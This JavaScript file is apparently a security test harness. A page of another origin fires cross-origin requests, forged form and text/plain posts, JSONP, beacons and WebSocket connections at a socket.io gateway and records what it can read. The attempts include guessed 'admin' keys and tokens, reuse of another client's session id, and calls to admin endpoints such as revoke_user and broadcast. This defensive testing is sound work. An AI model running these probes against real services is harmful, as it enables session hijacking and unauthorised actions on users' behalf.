// Attempts of a page of another origin against a gateway. Each reports the part of the response that the page could
// read; `got` is null if it could read nothing.

/** Timeout of an attempt, in ms. Refusals come at once; only accepted requests wait. */
const LIMIT = 3000;
/** Number of simultaneous attempts: fewer than the connections that a browser opens to a host. */
const AT_ONCE = 4;
const EVENT = { event: "message", data: "forged", room: "lobby", client_id: "", user: "ada", metadata: { a: 1 } };
const FORGED = '42["message",{"room":"lobby","content":"forged"}]';
const HEADERS = [{}, { "x-api-key": "" }, { "x-api-key": "admin" }, { authorization: "Bearer admin" }];

/** Stands for every function that a JSONP response may call. */
window.___eio = new Proxy([], { get: () => (data) => heard.push(data) });
const heard = [];

const later = (value) => new Promise((resolve) => setTimeout(resolve, LIMIT, value));

/** Loads a response as part of this page. A loaded response counts as read: it runs, or it can be measured. */
function tag(name, attributes) {
  const element = Object.assign(document.createElement(name), attributes);
  const loaded = new Promise((resolve) => {
    element.onload = element.onloadeddata = () => resolve("loaded");
    element.onerror = () => resolve(null);
  });
  document.body.append(element);
  return Promise.race([loaded, later(null)]).finally(() => element.remove());
}

/** Loads a frame. The page must not be able to read its document. */
async function framed(frame, begin) {
  const loaded = new Promise((resolve) => (frame.onload = frame.onerror = resolve));
  document.body.append(frame);
  begin?.();
  await Promise.race([loaded, later()]);
  try {
    const { location, document: inner } = frame.contentWindow;
    if (location.href === "about:blank") return null;
    return `${location.href} ${inner.body.innerText}`;
  } catch {
    return null;
  } finally {
    frame.remove();
  }
}

function frame(name, attributes) {
  return framed(Object.assign(document.createElement(name), attributes));
}

let forms = 0;
function form(action, enctype) {
  const [form, frame] = ["form", "iframe"].map((name) => document.createElement(name));
  frame.name = form.target = `form-${(forms += 1)}`;
  Object.assign(form, { action, enctype, method: "post" });
  // The text/plain encoding is `NAME=VALUE`, split so that the body is a valid packet, or valid JSON.
  const text = action.includes("socket.io") ? FORGED : JSON.stringify({ ...EVENT, data: "for=ged" });
  const [name, ...value] = text.replace("forged", "for=ged").split("=");
  form.append(Object.assign(document.createElement("input"), { name, value: value.join("=") }));
  document.body.append(form);
  return framed(frame, () => form.submit()).finally(() => form.remove());
}

async function fetched(url, options) {
  try {
    const answer = await fetch(url, { signal: AbortSignal.timeout(LIMIT), ...options });
    return answer.type === "opaque" ? null : `${answer.status} ${await answer.text()}`;
  } catch {
    return null;
  }
}

async function socket(url, subprotocols, packets) {
  const got = [];
  const ended = new Promise((resolve) => {
    const socket = new WebSocket(url, subprotocols);
    socket.onopen = () => {
      got.push("opened");
      packets.forEach((packet) => socket.send(packet));
    };
    socket.onmessage = ({ data }) => got.push(data);
    socket.onclose = resolve;
    setTimeout(() => socket.close(), LIMIT);
  });
  await ended;
  return got.length > 0 ? got.join(" ") : null;
}

function events(url) {
  const source = new EventSource(url, { withCredentials: true });
  const opened = new Promise((resolve) => {
    source.onopen = () => resolve("opened");
    source.onerror = () => resolve(null);
  });
  return Promise.race([opened, later(null)]).finally(() => source.close());
}

async function beacon(url, type, body) {
  navigator.sendBeacon(url, new Blob([body], { type }));
  return null;
}

/** All attempts, as `[kind, target, begin]`. `sid` is the id of another client's session. */
function* attempts(base, sid) {
  const polling = "socket.io/?EIO=4&transport=polling";
  const sessions = [polling, `${polling}&j=0`, `${polling}&sid=${sid}`, `${polling}&sid=${sid}&j=0`];
  const files = ["", "page.js", "clients.js", "page.css", "info", "health", "metrics", "native", "nothing"];
  const questions = ["rooms", "sockets", "counts", "openapi.json"].map((name) => `api/${name}`);
  const actions =
    ["broadcast", "emit_to_room", "emit_to_user", "join_room", "disconnect", "revoke_user", "batch", "auth/acquire-session"]
      .map((name) => `api/${name}`);
  const all = [...sessions, ...files, ...questions, ...actions];
  for (const target of all) {
    const url = base + target;
    yield ["script", target, () => tag("script", { src: url })];
    yield ["module", target, () => tag("script", { src: url, type: "module" })];
    yield ["import", target, () => import(url).then(() => "imported", () => null)];
    yield ["style", target, () => tag("link", { rel: "stylesheet", href: url })];
    yield ["image", target, () => tag("img", { src: url })];
    yield ["video", target, () => tag("video", { src: url })];
    yield ["frame", target, () => frame("iframe", { src: url })];
    yield ["object", target, () => frame("object", { data: url })];
    yield ["events", target, () => events(url)];
    for (const credentials of ["omit", "include"]) {
      yield ["no-cors", target, () => fetched(url, { mode: "no-cors", credentials })];
      for (const headers of HEADERS) yield ["fetch", target, () => fetched(url, { credentials, headers })];
    }
    for (const method of ["DELETE", "PUT"]) yield ["fetch", target, () => fetched(url, { method })];
  }
  for (const target of [...sessions, ...actions, "", "info"]) {
    const url = base + target;
    const body = target.startsWith("socket.io") ? FORGED : JSON.stringify(EVENT);
    for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
      yield ["form", target, () => form(url, enctype)];
    }
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
      yield ["beacon", target, () => beacon(url, type, body)];
      yield ["no-cors", target, () => fetched(url, { method: "POST", mode: "no-cors", body, headers: { "content-type": type } })];
      for (const headers of HEADERS) {
        const options = { method: "POST", body, headers: { ...headers, "content-type": type } };
        yield ["fetch", target, () => fetched(url, { ...options, credentials: "include" })];
        yield ["fetch", target, () => fetched(url, { ...options, credentials: "omit" })];
      }
    }
  }
  const websocket = "socket.io/?EIO=4&transport=websocket";
  const packets = ["40", '40/gateway,{"key":""}', '40/gateway,{"key":"admin"}'];
  for (const target of [websocket, `${websocket}&sid=${sid}`]) {
    yield ["websocket", target, () => socket(base.replace("http", "ws") + target, [], packets)];
  }
  for (const target of ["native", "", "native?namespace=/gateway", "native?namespace=/gateway&token=admin"]) {
    for (const subprotocols of [[], ["native", "bearer.admin"]]) {
      yield ["websocket", target, () => socket(base.replace("http", "ws") + target, subprotocols, [])];
    }
  }
}

async function attack(base, sid) {
  const left = attempts(base, sid);
  const results = [];
  const worker = async () => {
    for (const [kind, target, begin] of left) results.push({ kind, target, got: await begin() });
  };
  await Promise.all(Array.from({ length: AT_ONCE }, worker));
  results.push({ kind: "JSONP", target: "", got: heard.length > 0 ? heard.join(" ") : null });
  return results;
}
